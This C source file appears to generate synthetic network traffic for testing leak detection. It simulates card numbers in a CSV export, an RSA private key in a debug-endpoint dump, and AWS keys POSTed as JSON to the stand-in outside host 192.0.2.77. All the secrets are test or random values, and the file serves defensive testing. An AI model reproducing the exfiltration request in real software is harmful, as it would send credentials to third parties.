/* Secrets leaving in HTTP bodies: card numbers to a user, a private key
 * from the api's debug endpoint, AWS keys posted to an outside host. Each
 * body goes in a segment of its own after the header block (as servers
 * that write headers and body separately send it), and the secret sits in
 * its first captured bytes. */
#include <stdio.h>
#include <string.h>

#include "buf.h"
#include "proto.h"
#include "rng.h"
#include "tcp.h"
#include "threats.h"

#define MS 1000ll

static const char B64[] =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/* Send the header block and the body as two writes of `from`. */
static void send_message(struct tcp_conn *c, int from, const struct buf *head,
                         const struct buf *body, enum tcp_ack_mode mode) {
  tcp_send(c, from, head->p, head->len, TCP_REPLY_FOLLOWS);
  tcp_send(c, from, body->p, body->len, mode);
}

/* A customer export with two Luhn-valid test card numbers in its first
 * lines: web -> 203.0.113.207, GET /account/export. */
void threat_leak_card(struct world *w, int64_t t, struct threat_truth *tr) {
  struct rng *r = w->rng;
  const struct host cli = threat_outside("user", IPV4(203, 0, 113, 207), 115);
  struct tcp_conn c;
  struct session_out out;
  threat_connect(w, &c, &cli, &host_web, 80, rng_range(r, 20 * MS, 30 * MS), t,
                 &out);
  struct buf head, body;
  buf_init(&head);
  buf_init(&body);
  buf_str(&head,
          "GET /account/export HTTP/1.1\r\nHost: shop.example\r\n"
          "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
          "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
          "Safari/537.36\r\n"
          "Accept: text/csv,*/*\r\nCookie: session=5e1f0c9a2b7d4e83\r\n"
          "Connection: keep-alive\r\n\r\n");
  tcp_send(&c, TCP_CLI, head.p, head.len, TCP_REPLY_FOLLOWS);
  buf_reset(&head);
  tcp_idle(&c, rng_range(r, 20 * MS, 80 * MS));
  buf_str(&body,
          "order,date,name,card,expiry,total\n"
          "100231,2026-01-06,Alice Martin,4111 1111 1111 1111,12/28,129.90\n"
          "100232,2026-01-06,Bob Stone,5500-0000-0000-0004,03/27,54.20\n");
  static const char *const names[] = {"Carol Diaz", "Dan Okafor", "Eve Laurent",
                                      "Frank Ito", "Grace Novak"};
  for (unsigned i = 0; i < 5; i++) {
    /* Masked cards. One draw per statement: argument order is
     * unspecified. */
    unsigned last4 = (unsigned)rng_range(r, 1000, 9999);
    unsigned month = (unsigned)rng_range(r, 1, 12);
    unsigned year = (unsigned)rng_range(r, 26, 30);
    unsigned dollars = (unsigned)rng_range(r, 9, 400);
    unsigned cents = (unsigned)rng_range(r, 0, 99);
    buf_fmt(&body,
            "1002%02u,2026-01-0%u,%s,**** **** **** %04u,%02u/%02u,%u.%02u\n",
            33 + i, 6 + i % 2, names[i], last4, month, year, dollars, cents);
  }
  threat_captured(&body, 0, "5500-0000-0000-0004");
  http_response_head(&head, c.now, "nginx/1.24.0", "200 OK",
                     "text/csv; charset=utf-8", body.len, "keep-alive");
  send_message(&c, TCP_SRV, &head, &body, TCP_ACK_NOW);
  tcp_idle(&c, rng_range(r, 500 * MS, 2000 * MS));
  tcp_close(&c, TCP_CLI);
  buf_free(&head);
  buf_free(&body);
  threat_truth(
      tr, "leak-card", out.start, cli.ip, out.cport, host_web.ip, 80, "tcp",
      "3030,3030",
      "card numbers: web answers 203.0.113.207's GET /account/export "
      "with a CSV holding 4111 1111 1111 1111 and 5500-0000-0000-0004");
}

/* The base64 body of a PEM block: n characters starting with `prefix`
 * (the DER header every key of its kind shares), 64 to a line. */
static void pem_body(struct buf *b, struct rng *r, const char *prefix,
                     size_t n) {
  size_t plen = strlen(prefix);
  for (size_t i = 0; i < n; i++) {
    buf_u8(b, (uint8_t)(i < plen ? prefix[i] : B64[rng_below(r, 64)]));
    if (i % 64 == 63 || i + 1 == n) buf_u8(b, '\n');
  }
}

/* web -> api:8080 GET /api/v1/debug/config: the answer dumps the api's
 * configuration, TLS private key included. */
void threat_leak_private_key(struct world *w, int64_t t,
                             struct threat_truth *tr) {
  struct rng *r = w->rng;
  struct tcp_conn c;
  struct session_out out;
  threat_connect(w, &c, &host_web, &host_api, 8080, 0, t, &out);
  struct buf head, body;
  buf_init(&head);
  buf_init(&body);
  buf_str(&head,
          "GET /api/v1/debug/config HTTP/1.1\r\n"
          "Host: api.shop.svc.cluster.local:8080\r\n"
          "User-Agent: shop-web/2.3.1 node-fetch/3.3.2\r\nAccept: */*\r\n"
          "Connection: keep-alive\r\n\r\n");
  tcp_send(&c, TCP_CLI, head.p, head.len, TCP_REPLY_FOLLOWS);
  buf_reset(&head);
  tcp_idle(&c, rng_range(r, 1 * MS, 5 * MS));
  buf_str(&body,
          "# shop-api 2.3.1 effective configuration\n"
          "listen=0.0.0.0:8080\ntls.cert=/etc/shop/tls.crt\ntls.key=\n"
          "-----BEGIN RSA PRIVATE KEY-----\n");
  pem_body(&body, r, "MIIEpAIBAAKCAQEA", 1588); /* RSA-2048 */
  buf_str(&body,
          "-----END RSA PRIVATE KEY-----\n"
          "db.url=postgres://shop@db.shop.svc.cluster.local:5432/shop\n"
          "cache.url=redis://cache.shop.svc.cluster.local:6379/0\n");
  threat_captured(&body, 0,
                  "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA");
  http_response_head(&head, c.now, "shop-api", "200 OK",
                     "text/plain; charset=utf-8", body.len, "keep-alive");
  send_message(&c, TCP_SRV, &head, &body, TCP_REPLY_FOLLOWS);
  tcp_close(&c, TCP_CLI);
  buf_free(&head);
  buf_free(&body);
  threat_truth(tr, "leak-private-key", out.start, host_web.ip, out.cport,
               host_api.ip, 8080, "tcp", "3031",
               "private key: api answers web's GET /api/v1/debug/config with "
               "a configuration dump holding a PEM -----BEGIN RSA PRIVATE "
               "KEY----- block");
}

/* A made-up access key id of the real shape: AKIA and 16 characters of the
 * base32 alphabet, at least 8 of them distinct. */
static void aws_key_id(struct rng *r, char out[21]) {
  static const char b32[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
  for (;;) {
    memcpy(out, "AKIA", 4);
    unsigned seen = 0, distinct = 0;
    for (int i = 4; i < 20; i++) {
      unsigned k = (unsigned)rng_below(r, 32);
      out[i] = b32[k];
      if (!(seen >> k & 1)) distinct++;
      seen |= 1u << k;
    }
    out[20] = '\0';
    if (distinct >= 8) return;
  }
}

/* 40 base64 characters with upper and lower case letters and digits. */
static void aws_secret(struct rng *r, char out[41]) {
  for (;;) {
    int up = 0, low = 0, dig = 0;
    for (int i = 0; i < 40; i++) {
      char ch = B64[rng_below(r, 64)];
      out[i] = ch;
      up |= ch >= 'A' && ch <= 'Z';
      low |= ch >= 'a' && ch <= 'z';
      dig |= ch >= '0' && ch <= '9';
    }
    out[40] = '\0';
    if (up && low && dig) return;
  }
}

/* api POSTs a pair of AWS keys to 192.0.2.77:80 (exfiltration). */
void threat_leak_aws_key(struct world *w, int64_t t, struct threat_truth *tr) {
  struct rng *r = w->rng;
  const struct host srv = threat_outside("exfil", IPV4(192, 0, 2, 77), 48);
  struct tcp_path path;
  tcp_path_remote_server(&path, r, rng_range(r, 60 * MS, 90 * MS));
  struct tcp_conn c;
  struct session_out out;
  session_open(w, &c, &host_api, &srv, 80, &path, t, EDGE_ATTACK, &out);
  char id[21], secret[41];
  aws_key_id(r, id);
  aws_secret(r, secret);
  struct buf head, body;
  buf_init(&head);
  buf_init(&body);
  buf_fmt(&body,
          "{\"aws_access_key_id\": \"%s\", \"aws_secret_access_key\": \"%s\", "
          "\"region\": \"eu-west-1\", \"bucket\": \"shop-backups\"}",
          id, secret);
  threat_captured(&body, 0, secret);
  buf_fmt(&head,
          "POST /upload HTTP/1.1\r\nHost: 192.0.2.77\r\n"
          "User-Agent: python-requests/2.31.0\r\nAccept: */*\r\n"
          "Content-Type: application/json\r\nContent-Length: %zu\r\n"
          "Connection: close\r\n\r\n",
          body.len);
  send_message(&c, TCP_CLI, &head, &body, TCP_REPLY_FOLLOWS);
  buf_reset(&head);
  tcp_idle(&c, rng_range(r, 2 * MS, 10 * MS));
  static const char ok[] = "{\"ok\": true}\n";
  http_response_head(&head, c.now, "Python/3.11 aiohttp/3.9.1", "200 OK",
                     "application/json", strlen(ok), "close");
  buf_str(&head, ok);
  tcp_send(&c, TCP_SRV, head.p, head.len, TCP_REPLY_FOLLOWS);
  tcp_close(&c, TCP_SRV);
  buf_free(&head);
  buf_free(&body);
  static char desc[200];
  snprintf(desc, sizeof(desc),
           "AWS access key: api POSTs key id %s and its 40-character secret "
           "in JSON to 192.0.2.77:80",
           id);
  threat_truth(tr, "leak-aws-key", out.start, host_api.ip, out.cport, srv.ip,
               80, "tcp", "3032,3034", desc);
}
